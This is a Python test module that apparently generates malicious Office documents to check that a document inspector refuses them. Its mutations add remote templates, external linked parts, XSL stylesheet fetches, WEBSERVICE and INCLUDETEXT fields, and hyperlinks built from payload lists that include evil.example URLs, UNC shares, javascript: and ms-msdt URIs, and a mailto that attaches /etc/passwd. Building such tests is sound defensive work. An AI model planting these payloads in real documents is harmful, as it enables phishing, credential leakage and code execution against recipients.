"""Parts and templates from outside, and links that act."""

from random import Random

from ita_core.evidence import inspect as refusals
from tests import files
from tests.attacks.attack import EXCEL, MAIN, OF, OFFICE, SHEET, WORD, attack, folder_of, in_some_coding

FAR = ("http://evil.example/a", "https://evil.example/a.png", "file://evil/share/a", "\\\\evil\\share\\a",
       "file:////evil/share/a", "ftp://evil.example/a", "mhtml:http://evil.example/a!x")  # fmt: skip


@attack("links", refusals.LinkedContent, *OFFICE)
def a_part_from_outside(content: bytes, random: Random) -> bytes:
    kind = random.choice(["image", "oleObject", "frame", "subDocument", "video", "audio", "mailMergeSource", "package",
                          "mailMergeHeaderSource", "recipientData", "transform", "media", "model3d", "slideUpdateUrl",
                          "htmlPubSaveAs", "aFChunk", "connections", "queryTable", "font"])  # fmt: skip
    return files.related(content, kind, random.choice(FAR))


@attack("links", refusals.LinkedContent, *OFFICE)
def a_part_from_outside_that_says_it_is_inside(content: bytes, random: Random) -> bytes:
    return files.related(content, "image", random.choice(FAR), external=False)


ODD = ("javascript:alert(1)", "java&#9;script:alert(1)", "\u200bJavaScript:x", "vbscript:x", "data:text/html,x",
       "ms-msdt:/id%20PCWDiagnostic", "search-ms:query=a", "mhtml:http://a!b", "shell:startup",
       "ms-word:ofe|u|http://a",
       "\\\\evil\\share", "//evil/share", "file://evil/share/a", "%5C%5Cevil/a", "/\\evil/a", "ldap://evil",
       "https://www.moi.go.th@evil.example/", "http:\\\\www.moi.go.th\\@evil.example",
       "mailto:a@evil.example?subject=a&amp;attach=/etc/passwd", "https://evil.example/\u202efdp.exe",
       "calc.exe", "../a.lnk", "file:///C:/Windows/System32/calc.exe")  # fmt: skip


@attack("links", refusals.OddLink, *OFFICE)
def a_link_that_acts(content: bytes, random: Random) -> bytes:
    return files.related(content, "hyperlink", random.choice(ODD))


@attack("links", refusals.RemoteTemplate, WORD)
def a_template_from_outside(content: bytes, random: Random) -> bytes:
    place = random.choice(["http://evil.example/a.dotm", "file://evil/a.dotm", "\\\\evil\\a.dotm", "file:///\\\\evil\\a.dotm",
                           "file:////evil/a.dotm", "file:///%5C%5Cevil/a.dotm"])  # fmt: skip
    made = files.parts(content)
    relations = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{files.RELATIONS}attachedTemplate" Target="{place}" TargetMode="External"/></Relationships>'  # noqa: E501
    return files.packed({**made, "word/_rels/settings.xml.rels": relations.encode()})


@attack("links", refusals.LinkedWorkbook, EXCEL)
def another_workbook(content: bytes, random: Random) -> bytes:
    if random.random() < 0.5:
        kind = random.choice(["externalLinkPath", "xlExternalLinkPath/xlPathMissing"])
        return files.related(content, kind, "file:///C:/a.xlsx")
    link = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    return files.added(content, "xl/externalLinks/externalLink1.xml", link, OF[EXCEL] + ".externalLink+xml")


def _loaded(content: bytes, part: str, is_a: str, random: Random) -> bytes:
    """A part that acts, named and typed as something else, and loaded by its relationship."""
    if "word/document.xml" in files.parts(content):
        space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
        field = '<w:fldSimple w:instr="INCLUDETEXT &quot;http://evil.example&quot;"/>'
        kind, xml = "header", f"<w:hdr {space}><w:p>{field}</w:p></w:hdr>"
    else:
        kind, xml = "worksheet", f'<worksheet {SHEET}><f>_xlfn.WEBSERVICE("http://evil.example")</f></worksheet>'
    target = "/" + (part.replace("/e", "/%65") if random.random() < 0.5 else part)
    return files.related(files.added(content, part, in_some_coding(xml, random), is_a), kind, target, external=False)


@attack("wrong type", refusals.StrangeZip, WORD, EXCEL)
def a_part_that_is_loaded_as_another_than_it_is_called(content: bytes, random: Random) -> bytes:
    part = random.choice(["media/evil.dat", "media/evil.vml", "media/evil.svg", "customXml/evil.xml"])
    return _loaded(content, part, "image/png" if part.endswith(".dat") else "application/xml", random)


@attack("links", refusals.LinkedContent, *OFFICE)
def a_stylesheet_before_a_part(content: bytes, random: Random) -> bytes:
    suffix, _folder = folder_of(content)
    made = files.parts(content)
    said = b'<?xml-stylesheet type="text/xsl" href="http://evil.example/a.xsl"?>'
    first = made[MAIN[suffix]]
    place = first.index(b"?>") + 2 if first.startswith(b"<?xml") else 0
    return files.packed({**made, MAIN[suffix]: first[:place] + said + first[place:]})


@attack("links", refusals.LinkedContent, *OFFICE)
def a_panel_that_is_fetched(content: bytes, random: Random) -> bytes:
    xsn = '<customXsn xmlns="http://schemas.microsoft.com/office/2006/metadata/customXsn"><xsnLocation>{}</xsnLocation></customXsn>'
    return files.added(content, "customXml/item9.xml", xsn.format(random.choice(FAR)).encode(), "application/xml")


PICTURES_OF_VML = (
    '<v:imagedata xmlns:o="o" o:href="{}"/>',
    '<v:fill xmlns:o="o" o:althref="{}"/>',
    "<v:stroke src='{}'/>",
)


@attack("links", refusals.LinkedContent, *OFFICE)
def a_picture_of_a_shape_from_outside(content: bytes, random: Random) -> bytes:
    _suffix, folder = folder_of(content)
    shape = random.choice(PICTURES_OF_VML).format(random.choice(FAR))
    vml = f'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape>{shape}</v:shape></xml>'
    is_a = "application/vnd.openxmlformats-officedocument.vmlDrawing"
    return files.added(content, f"{folder}/drawings/vmlDrawing9.vml", vml.encode(), is_a)


@attack("links", refusals.OddLink, EXCEL)
def a_link_of_a_cell_to_a_place_that_acts(content: bytes, random: Random) -> bytes:
    place = random.choice(["\\\\evil\\s\\a.exe", "file://evil/s/a.exe", "//evil/a", "&#92;&#92;evil", "javascript:a"])
    name = "xl/worksheets/sheet1.xml"
    made = files.parts(content)
    links = f'<hyperlinks><hyperlink ref="A1" location="{place}" display="a"/></hyperlinks></worksheet>'
    return files.packed({**made, name: made[name].replace(b"</worksheet>", links.encode())})


SHAPE = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" {}/></w:pict></w:r></w:p><w:sectPr'


@attack("links", refusals.OddLink, WORD)
def a_shape_that_leads_elsewhere(content: bytes, random: Random) -> bytes:
    place = random.choice(ODD)
    if random.random() < 0.5:
        return files.changed(content, "word/document.xml", "<w:sectPr", SHAPE.format(f'href="{place}"'))
    drawing = f'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape href="{place}"><br></v:shape></xml>'
    return files.added(content, "word/drawings/vmlDrawing1.vml", drawing.encode())


@attack("links", refusals.OddLink, *OFFICE)
def a_place_where_all_links_begin(content: bytes, random: Random) -> bytes:
    kind = "application/vnd.openxmlformats-officedocument.extended-properties+xml"
    said = f"<Properties><HyperlinkBase>{random.choice(ODD)}</HyperlinkBase></Properties>"
    return files.added(content, "docProps/more.xml", said.encode(), kind)
